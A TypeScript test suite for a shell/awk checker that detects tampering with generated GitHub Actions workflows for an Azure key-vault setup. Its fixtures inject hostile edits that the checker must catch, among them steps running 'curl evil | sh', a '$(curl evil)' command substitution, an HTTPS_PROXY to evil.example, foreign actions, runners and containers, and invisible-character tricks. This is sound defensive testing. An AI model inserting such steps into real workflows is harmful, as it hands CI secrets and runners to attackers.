/**
 * How set-up.sh tells a workflow that it wrote from one that somebody changed: each case is one edit of the file. What GitHub would read
 * otherwise is a difference, however it is spelled; comments and the values of a setup are none.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { infra } from './dry-run.ts';
import { action, tenant } from './set-up.ts';

const parts = join(infra, 'shell');
const filled = `
here=${infra} group=rg-cja location=eastus2 vault=kv-contoso-cja network=open runner=ubuntu-latest tenant=${tenant} confirmed=
subscription=b3d9e2a4-6f17-4c85-8a3b-90e5d7c1f246 entitlement=privacy-security-shield organization= contact='Ada' reviews=yes
environment=cmk read_environment=cmk-read plan_environment=cmk-plan calls=() key_version= tags=() action=${action}
. ${join(parts, 'set-up-files.sh')}
filled_in "$1"`;

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'same-workflow-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const written = (name: string) => execFileSync('bash', ['-c', filled, 'bash', name], { encoding: 'utf8' });
const [setUp, daily] = [written('cmk-set-up.yml'), written('verify-cmk.yml')];

/** What is printed of the changed file. */
function compared(
  ours: string,
  change: (text: string) => string,
): { readonly status: number | null; readonly stdout: string } {
  const theirs = change(ours);
  expect(theirs).not.toBe(ours);
  const files = { ours, theirs: theirs.replaceAll('\0', '\u0001') };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
  const paths = ['ours', 'theirs'].map((name) => join(folder, name));
  const { status, stdout } = spawnSync('awk', ['-f', join(parts, 'same-workflow.awk'), ...paths], { encoding: 'utf8' });
  return { status, stdout };
}

type Edit = readonly [what: string, change: (text: string) => string, printed: string];
const foreign = '0badc0de-93fd-4a07-b5d2-17f0ae369c58';
const put = (after: string, more: string) => (text: string) => text.replace(after, (found) => `${found}${more}`);
const swap = (from: string | RegExp, to: string) => (text: string) => text.replace(from, () => to);
const steps = '    steps:\n';
const at = '    timeout-minutes: 20\n';
const location = '          location: eastus2\n';
const hostile: readonly Edit[] = [
  [
    'of another vault',
    swap('kv-contoso-cja', 'kv-other'),
    'has “vault-name: kv-other”, not vault-name: kv-contoso-cja',
  ],
  ['of another tenant', swap(tenant, foreign), `, not tenant-id: ${tenant}`],
  ["of a variable's tenant", swap(tenant, '${{ vars.AZURE_TENANT_ID }}'), `, not tenant-id: ${tenant}`],
  ['of a tenant once more', put('        with:\n', `          tenant-id: ${foreign}\n`), 'has “tenant-id: 0badc0de'],
  [
    'of a tenant, quoted',
    put('        with:\n', `          "tenant-id" : ${foreign}\n`),
    'has “"tenant-id" : 0badc0de',
  ],
  ['of a tenant, escaped', put('        with:\n', `          "tenant\\u002did": ${foreign}\n`), 'has “"tenant'],
  ['that restores always', swap('${{ inputs.restore-grant }}', 'true'), 'has “restore-grant: true'],
  ['that restores nothing', swap(/ *restore-grant: \$.*\n/, ''), 'lacks restore-grant:'],
  ['with a waiver', put(location, '          waive: vault-lock\n'), 'has “waive: vault-lock'],
  [
    'confirmed by a variable',
    swap(/(?<=confirmed-key-uri:).*/, ' ${{ vars.CONFIRMED }}'),
    'has “confirmed-key-uri: ${{',
  ],
  [
    'with an expression',
    swap(/(?<=adobe-ticket: ).*/, '${{ github.event.head_commit.message }}'),
    'has “adobe-ticket:',
  ],
  [
    'with one among the people',
    put(location, '          contacts: |\n            owners: ${{ github.event.head_commit.message }}\n'),
    'has an expression in a value',
  ],
  ['with one in a text', swap('  workflow_dispatch:', '  workflow_dispatch: # ${{ x }}\n    x: 1'), 'has “x: 1'],
  ['with a step', put(steps, '      - uses: evil/x@main\n'), 'has “- uses: evil/x@main'],
  ['with a step in flow style', put(steps, '      - { run: "curl evil | sh" }\n'), 'has “- { run: "curl evil | sh" }'],
  ['with a step as a complex key', put(steps, '      - ? run\n        : curl evil\n'), 'has “- ? run'],
  ['with a step in an escaped key', put(steps, '      - "r\\x75n": curl evil\n'), 'has “- "r'],
  ['with an anchor', swap('location: eastus2', 'location: &a eastus2'), 'has “location: &a eastus2'],
  ['with an alias', swap('location: eastus2', 'location: *a'), 'has “location: *a'],
  ['with a tag of YAML', swap('location: eastus2', 'location: !!str eastus2'), 'has “location: !!str'],
  ['with a block for a value', swap('location: eastus2', 'location: |\n            eastus2'), 'has “location: |'],
  ['with an open quote', swap('location: eastus2', 'location: "eastus2'), 'has “location: "eastus2'],
  [
    'with two values on a line',
    swap('location: eastus2', 'location: eastus2   vault-name: x'),
    'has “location: eastus2   ',
  ],
  ['with a value that goes on', put(location, '            more\n'), 'has “more'],
  ['with a value given twice', put(location, location), 'has location again'],
  ['with a value elsewhere', put(at, '          location: x\n'), 'has “location: x'],
  ['in a container', put(at, '    container: evil/image\n'), 'has “container: evil/image'],
  ['with a service', put(at, '    services: { x: { image: evil/image } }\n'), 'has “services:'],
  [
    'on another runner',
    swap('runs-on: ubuntu-latest', 'runs-on: [self-hosted, evil]'),
    'has “runs-on: [self-hosted, evil]',
  ],
  ['behind a proxy', put(at, '    env: { HTTPS_PROXY: http://evil.example }\n'), 'has “env: { HTTPS_PROXY'],
  [
    'with a proxy for all',
    swap('permissions: {}', 'env: { NODE_OPTIONS: x }\n\npermissions: {}'),
    'has “env: { NODE_OPTIONS',
  ],
  ['with defaults', swap('permissions: {}', 'defaults: { run: { shell: x } }\npermissions: {}'), 'has “defaults:'],
  ['with another event', put('on:\n', '  issue_comment:\n'), 'has “issue_comment:'],
  ['with more permissions', swap('permissions: {}', 'permissions: write-all'), 'has “permissions: write-all'],
  ['with permissions of the job', put('    permissions:\n', '      contents: write\n'), 'has “contents: write'],
  ['with no approval', swap(/\|\| 'cmk-plan'/, "|| 'cmk'"), 'has “environment:'],
  ['that can run again', swap('github.run_attempt == 1', 'github.run_attempt != 0'), "has “inputs.mode == 'plan' ||"],
  [
    'with a second job',
    (text) => `${text}  more:\n    runs-on: ubuntu-latest\n    steps: [{ run: x }]\n`,
    'has “more:',
  ],
  ['in two documents', (text) => `${text}---\n${text}`, 'has “---'],
  ['of somebody else', () => 'on: push\njobs: {}\n', 'has “on: push'],
  ['of nothing', () => '# Nothing\n', 'it lacks name:'],
  ['of another action', swap('org/cja-cmk-action@', '0rg/cja-cmk-action@'), 'has “uses: 0rg/cja-cmk-action@'],
  ['of a branch of the action', swap(/(?<=cja-cmk-action@)\S+/, 'main'), 'has “uses: org/cja-cmk-action@main'],
  ['of a short commit', swap(/(?<=cja-cmk-action@)\S+/, '1111111'), 'has no full commit'],
  ['of another mode', swap("'ensure' || 'plan' }}\n          ", "'ensure' || 'verify' }}\n          "), 'has “mode:'],
  ['with a tab', swap('location: eastus2', 'location:\teastus2'), 'has an invisible character'],
  ['with carriage returns', swap(/\n/g, '\r\n'), 'has an invisible character'],
  ['with a mark of byte order', (text) => `\uFEFF${text}`, 'has an invisible character'],
  ['with a line separator', swap('# Written', '# x\u2028  evil'), 'has an invisible character'],
  ['with a NEL', swap('# Written', '# x\u0085  evil'), 'has an invisible character'],
  ['with a null', swap('id-token', 'id\0-token'), 'has an invisible character'],
  ['with a quote of our own', put(steps, '      - ” said the script\n'), 'has “- " said the script”, not'],
  ['with a long line', put(steps, `      - run: ${'x'.repeat(400)}\n`), `has “- run: ${'x'.repeat(72)}…”, not`],
];

test.each(hostile)('%s is not ours', (_, change, printed) => {
  const { status, stdout } = compared(setUp, change);
  expect([status, stdout]).toEqual([1, expect.stringContaining(printed)]);
});

test.each<[string, (text: string) => string]>([
  ['with comments', (text) => `# Ours.\n${text.replace(at, `${at.trimEnd()} # enough\n    # More.\n`)}`],
  [
    'with values that it left out',
    put(location, '          network: restricted\n          tags: |\n            a=b\n'),
  ],
  [
    'with people to call',
    put(location, '          contacts: |\n            owners: Ada, +1 555 0100\n            security: #on-call\n'),
  ],
  ['with a ticket', swap('adobe-ticket: ""', 'adobe-ticket: "E-001234567"')],
  ['without a ticket', swap(/ *adobe-ticket: .*\n/, '')],
  ['with other quotes and letters', swap("'kv-contoso-cja'", 'KV-contoso-cja # ours')],
  [
    'with a confirmed key',
    swap(/(?<=confirmed-key-uri: ).*/, `https://kv-contoso-cja.vault.azure.net/keys/cja-cmk/${'01'.repeat(16)}`),
  ],
])('%s it is ours', (_, change) => {
  expect(compared(setUp, change)).toEqual({ status: 0, stdout: `commit ${'1'.repeat(40)}\n` });
});

test('is read by the awk of every machine: busybox takes a backslash in brackets for a sign', () => {
  const source = readFileSync(join(parts, 'same-workflow.awk'), 'utf8');
  expect(source.match(/\[\^?[^\]\n]*\\\[.*/)).toBeNull();
});

const [uri, other] = ['01', '02'].map(
  (each) => `https://kv-contoso-cja.vault.azure.net/keys/cja-cmk/${each.repeat(16)}`,
);
const says = (value: string) => swap(/(?<=confirmed-key-uri:).*/, ` ${value}`);
const decoy = (value: string) => put(location, `          contacts: |\n            confirmed-key-uri: ${value}\n`);
const unsaid = swap(/ *confirmed-key-uri:.*\n/, '');
const both =
  (...changes: readonly ((text: string) => string)[]) =>
  (text: string) =>
    changes.reduce((changed, change) => change(changed), text);
const [foreignVault, unversioned] = [uri?.replace('kv-contoso', 'kv-mallory'), uri?.replace(/\/[^/]*$/, '')];
const [asConfirmed, asRecorded] = [{ confirmed: uri }, { remembered: uri }];
const ada = 'owners: Ada, +1 555 0100';
const calling = (text: string) => put(location, `          contacts: |\n            ${text}\n`);

interface Told {
  readonly confirmed?: string | undefined;
  readonly remembered?: string | undefined;
  readonly calls?: string;
}

/** What a second run judges: what it is told now, what an earlier one was told, and what stands in the default branch by then. */
test.each<[says: string, told: Told, change: (text: string) => string, printed: string]>([
  ['none, in double quotes', asRecorded, says('"none until 2027-01-31"'), 'it says none, and you said'],
  ['none, in single quotes', asRecorded, says("'none until 2027-01-31'"), 'it says none, and you said'],
  ['none, with two blanks', asRecorded, says('none  until 2027-01-31'), 'it says neither'],
  ['no day', {}, says('none until tomorrow'), 'it says neither'],
  ['another version', asRecorded, says(other ?? ''), `it says ${other}, and you said ${uri}`],
  ['another vault', {}, says(foreignVault ?? ''), 'nor the URI of a key of kv-contoso-cja with its version'],
  ['no version', {}, says(unversioned ?? ''), 'nor the URI of a key'],
  ['nothing but in a decoy', asConfirmed, both(unsaid, decoy(uri ?? '')), 'stranger confirmed-key-uri'],
  ['none, beside a decoy', asConfirmed, both(says('none until 2027-01-31'), decoy(uri ?? '')), 'missing'],
  ['the key, beside a decoy', asConfirmed, both(says(uri ?? ''), decoy(other ?? '')), 'ours, changed since'],
  ['the key that was confirmed', asRecorded, says(uri?.replace('kv-', 'KV-') ?? ''), 'ours'],
  ['the key, in quotes, with a comment', asRecorded, says(`"${uri}" # ticket 7`), 'ours, changed since'],
  ['a key where nothing was recorded', {}, says(uri ?? ''), 'ours'],
  ['a key where none was recorded', { remembered: 'none until 2027-01-02' }, says(other ?? ''), 'ours'],
  ['somebody else to call', { calls: ada }, calling('owners: Mallory, +1 900 666'), 'stranger contacts'],
  [
    'somebody else to call, on one line',
    { calls: ada },
    put(location, `          contacts: '${ada}.'\n`),
    'stranger contacts',
  ],
  ['nobody to call', { calls: ada }, put(location, '          # Nobody\n'), 'stranger contacts'],
  ['who was to be called', { calls: ada }, calling(ada), 'ours, changed since'],
  ['another contact for the ticket', {}, swap("'Ada'", "'Mallory'"), 'stranger ticket-contact'],
  ['the contact in other quotes', {}, swap("'Ada'", '"Ada" # still'), 'ours, changed since'],
])(
  'a second run finds a workflow that says %s',
  (_, { confirmed = '', remembered = '', calls = '' }, change, printed) => {
    const theirs = both(says('none until 2027-01-02'), change)(setUp);
    const around = `. ${join(parts, 'options.sh')}
    . ${join(parts, 'set-up-said.sh')}
    read_file() { content=$(base64 -w 0 <<<"$THEIRS"); }
    remembered() { printf '%s' "$REMEMBERED"; }
    not_ours() { printf 'stranger %s' "$3"; }
    already() { printf 'ours%s' "\${1#workflow * in branch main}"; }
    site=x default_branch=main said=$CONFIRMED confirmed=$CONFIRMED
    reviewed_file cmk-set-up.yml || printf missing`;
    const env = {
      ...process.env,
      THEIRS: theirs.trimEnd(),
      CONFIRMED: confirmed,
      REMEMBERED: remembered,
      CALLS: calls,
    };
    const script = filled.replace('filled_in "$1"', () => around).replace('calls=()', 'calls=(${CALLS:+"$CALLS"})');
    expect(execFileSync('bash', ['-c', script], { env, encoding: 'utf8' })).toContain(printed);
  },
);

test('beside what a run puts into a branch, the other workflow counts as a file of others', () => {
  const script = `. ${join(parts, 'protection.sh')}; . ${join(parts, 'set-up-files.sh')}; repository=x default_branch=main
    ask_once() { result=$(printf '".github/workflows/%s"\n' "\${workflows[@]}"); }
    other_files b cmk-set-up.yml; printf '%s,' "$files"; other_files b "\${workflows[@]}"; printf '%s' "$files"`;
  expect(execFileSync('bash', ['-c', script], { encoding: 'utf8' })).toBe('".github/workflows/verify-cmk.yml",');
});

test('the commit of another version is printed, for the caller to judge', () => {
  const newer = swap(/(?<=cja-cmk-action@)\S+/, `${'a'.repeat(40)} # v1.2.3`);
  expect(compared(setUp, newer)).toEqual({ status: 0, stdout: `commit ${'a'.repeat(40)}\n` });
});

const monitor = / {6}# (- \{ name: Monitor.*\n)/;
test.each<Edit>([
  ['with its monitor', (text) => text.replace(monitor, '      $1'), 'commit 1'],
  ['in the service region EU', swap('https://events.pagerduty', 'https://events.eu.pagerduty'), 'commit 1'],
  [
    'with a command in its script',
    swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'),
    'has “curl --proto',
  ],
  ['with an address of somebody else', swap('events.pagerduty.com', 'evil.example'), 'has “PAGERDUTY_URL:'],
  [
    'with another monitor',
    (text) => text.replace(monitor, "      - { name: Monitor, run: 'curl evil' }\n"),
    'has “- { name: Monitor',
  ],
  [
    'with its monitor called before the check',
    (text) => text.replace(steps, `${steps}${monitor.exec(text)?.[0].replace('# ', '') ?? ''}`),
    'has “- { name: Monitor',
  ],
  ['with more permissions', put('    permissions:\n', '      contents: write\n'), 'has “contents: write'],
  ['whose text does not end', swap('          EOF\n', '          EOF \n'), 'has “EOF'],
  ['that sends after a rerun', swap('always() && github.run_attempt == 1', 'always()'), 'has “if:'],
])('of every day %s', (_, change, printed) => {
  const { status, stdout } = compared(daily, change);
  expect([status, stdout]).toEqual([printed.startsWith('commit') ? 0 : 1, expect.stringContaining(printed)]);
});

describe('a commit of the action', () => {
  let clone = '';
  const git = (...args: readonly string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.invalid', ...args], {
      cwd: clone,
      encoding: 'utf8',
    }).trim();
  const isKnown = (commit: string, where = clone) =>
    spawnSync('bash', [
      '-c',
      `here=${where} action=${action}; . ${join(parts, 'options.sh')}; . ${join(parts, 'set-up-files.sh')}; in_history ${commit}`,
    ]).status === 0;
  const foreignCommit = 'a'.repeat(40);
  const commits: string[] = [];

  beforeAll(() => {
    clone = mkdtempSync(join(tmpdir(), 'clone-'));
    git('init', '--quiet', '--initial-branch', 'main');
    for (const message of ['one', 'two']) {
      git('commit', '--quiet', '--allow-empty', '--message', message);
      commits.push(git('rev-parse', 'HEAD'));
    }
    git(
      'remote',
      'add',
      'origin',
      `git@github.com:${'org/cja-cmk-action'.replace(/^./, (first) => first.toUpperCase())}.git`,
    );
  });
  afterAll(() => rmSync(clone, { recursive: true, force: true }));

  test('has to be in the history of the clone, since GitHub also runs those of forks', () => {
    expect(commits.map((commit) => isKnown(commit))).toEqual([true, true]);
    expect(isKnown(foreignCommit)).toBe(false);
  });

  test('of a pull request is none of the project, though a mirror has it, nor one of a branch that nobody reviewed', () => {
    const [tree, parent = ''] = [git('rev-parse', 'HEAD^{tree}'), commits.at(-1)];
    const proposed = git('commit-tree', tree, '-p', parent, '-m', 'proposed');
    git('update-ref', 'refs/pull/1/head', proposed);
    expect(isKnown(proposed)).toBe(false);
    for (const [name, known] of Object.entries({
      'remotes/origin/proposed': false,
      'tags/proposed': false,
      'tags/v1.2.3': true,
      'remotes/origin/HEAD': true,
    })) {
      git('update-ref', `refs/${name}`, proposed);
      expect([name, isKnown(proposed)]).toEqual([name, known]);
      git('update-ref', '-d', `refs/${name}`);
    }
  });

  /** What is said of a workflow in the default branch that differs by its commit only. */
  const judgedWith = (commit: string) => {
    const around = `. ${join(parts, 'options.sh')}
      git() { command git -C ${clone} "\${@:3}"; }
      read_file() { content=$(filled_in "$2" | sed 's/@1*$/@${commit}/' | base64); }
      not_ours() { printf '%s' "$3"; }
      names_confirmed() { printf 'it is ours'; }
      site=x default_branch=main
      reviewed_file cmk-set-up.yml`;
    return execFileSync('bash', ['-c', filled.replace('filled_in "$1"', () => around)], { encoding: 'utf8' });
  };

  test('that is in no history makes a workflow a stranger, and one that is there does not', () => {
    expect(judgedWith(foreignCommit)).toMatch(/^it runs commit a{40} .*, which is not in the history of this clone/);
    expect(judgedWith(commits[0] ?? '')).toBe('it is ours');
  });

  test('that is the one which this setup names needs no history', () => {
    expect(isKnown('1'.repeat(40))).toBe(true);
  });

  test('cannot be judged by a clone of another repository, a shallow one, or none', () => {
    git('remote', 'set-url', 'origin', 'https://github.com/contoso/other');
    expect(isKnown(foreignCommit)).toBe(true);
    git('remote', 'set-url', 'origin', 'https://github.com/org/cja-cmk-action');
    expect(isKnown(foreignCommit)).toBe(false);
    writeFileSync(join(clone, '.git', 'shallow'), `${commits[1]}\n`);
    expect([isKnown(foreignCommit), isKnown(foreignCommit, tmpdir())]).toEqual([true, true]);
  });
});
